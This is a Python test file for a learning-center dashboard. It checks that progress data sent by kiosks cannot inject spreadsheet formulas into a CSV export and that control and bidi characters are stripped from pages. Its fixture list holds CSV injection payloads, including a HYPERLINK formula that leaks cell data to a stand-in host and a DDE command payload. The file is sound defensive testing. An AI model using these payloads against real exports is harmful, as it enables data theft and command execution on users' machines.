"""Progress from kiosks reaches the pages and the CSV safely: learner ids not on the center's
roster are marked as such, and no cell of the export can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import time

from central.database import open_database
from central.roster import add_learner
from central.web.routes.progress import FORMULA_STARTS
from tests.central.web.conftest import CENTER, Dashboard, csrf_of

# What a tampered kiosk could send as learner ids (and a roster name typed in earnest).
HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def add_summary(dashboard: Dashboard, learner_id: str, lesson: str = "phone-call") -> None:
    now = time.time()
    open_database(dashboard.db_path).execute(
        "INSERT INTO lesson_summary VALUES (?, ?, ?, 1, 0, 0, 2, 5, 4, 3, 2, 0, 0, 60, ?, ?, 2)",
        [CENTER, learner_id, lesson, now, now],
    )
    open_database(dashboard.db_path).execute(
        "INSERT INTO step_summary VALUES (?, ?, ?, 'dial', 4, 2, 3)", [CENTER, learner_id, lesson]
    )


def exported(dashboard: Dashboard) -> list[list[str]]:
    """The CSV as a spreadsheet reads it: rows of cells."""
    response = dashboard.client("kim").get(f"/centers/{CENTER}/progress.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_no_exported_cell_can_start_a_formula(dashboard: Dashboard) -> None:
    db = open_database(dashboard.db_path)
    named = add_learner(db, CENTER, "=1+1 김")
    for learner_id in [*HOSTILE_IDS, named, dashboard.learner]:
        add_summary(dashboard, learner_id)
    header, *rows = exported(dashboard)
    assert len(rows) == len(HOSTILE_IDS) + 2
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
    by_id = {row[0].removeprefix("'"): row for row in rows}
    assert by_id[HOSTILE_IDS[0]][0] == "'" + HOSTILE_IDS[0]  # shown as typed, as text
    assert by_id[named][1] == "'=1+1 김"
    assert by_id[HOSTILE_IDS[0]][header.index("명단에 있음")] == "아니요"
    assert by_id[dashboard.learner][header.index("명단에 있음")] == "예"


def test_the_export_speaks_the_pages_language(dashboard: Dashboard) -> None:
    add_summary(dashboard, dashboard.learner)
    kim = dashboard.client("kim")
    korean = kim.get(f"/centers/{CENTER}/progress.csv").content.decode("utf-8-sig")
    assert korean.splitlines()[0].startswith("학습자 ID,이름,수업 수,")
    kim.post("/lang", data={"lang": "en", "csrf_token": csrf_of(kim), "next": "/"})
    english = kim.get(f"/centers/{CENTER}/progress.csv").content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(english)))[:2]
    assert header[:3] == ["learner_id", "name", "lessons"] and row[-1] == "yes"


def test_ids_not_on_the_roster_are_marked_not_shown_as_learners(dashboard: Dashboard) -> None:
    add_summary(dashboard, HOSTILE_IDS[0])
    add_summary(dashboard, dashboard.other_learner)  # another center's learner's id
    add_summary(dashboard, dashboard.learner)
    page = dashboard.client("kim").get(f"/centers/{CENTER}/progress").text
    assert "박철수" not in page  # the other center's learner's name never shows here
    assert page.count("명단에 없는 학습자") == 4  # two learner rows, two stuck rows
    assert f'href="/centers/{CENTER}/learners/{dashboard.other_learner}"' not in page
    assert f'href="/centers/{CENTER}/learners/{dashboard.learner}"' in page
    api = dashboard.client("kim").get(f"/api/v1/centers/{CENTER}/progress").json()
    assert {(r["key"], r["known"]) for r in api["learners"]} == {
        (HOSTILE_IDS[0], False),
        (dashboard.other_learner, False),
        (dashboard.learner, True),
    }


def test_text_from_a_center_is_shown_without_control_or_bidi_characters(
    dashboard: Dashboard,
) -> None:
    """Whatever a kiosk sent (its id, a learner label) shows without RLO, BEL and the like."""
    db = open_database(dashboard.db_path)
    db.execute(
        "INSERT INTO help_calls (center, kiosk, learner, at, received_at) VALUES (?, ?, ?, ?, ?)",
        [CENTER, "kiosk\u202e1", "\u202eevil\x07" + "x" * 500, time.time(), time.time()],
    )
    add_summary(dashboard, "\u202eli\x00ve")
    client = dashboard.client("kim")
    for path in ("/help", f"/centers/{CENTER}", f"/centers/{CENTER}/progress"):
        page = client.get(path).text
        assert not any(c in page for c in "\u202e\x07\x00"), path
        assert "x" * 100 not in page, path
    assert "\ufffdevil\ufffd" in client.get("/help").text
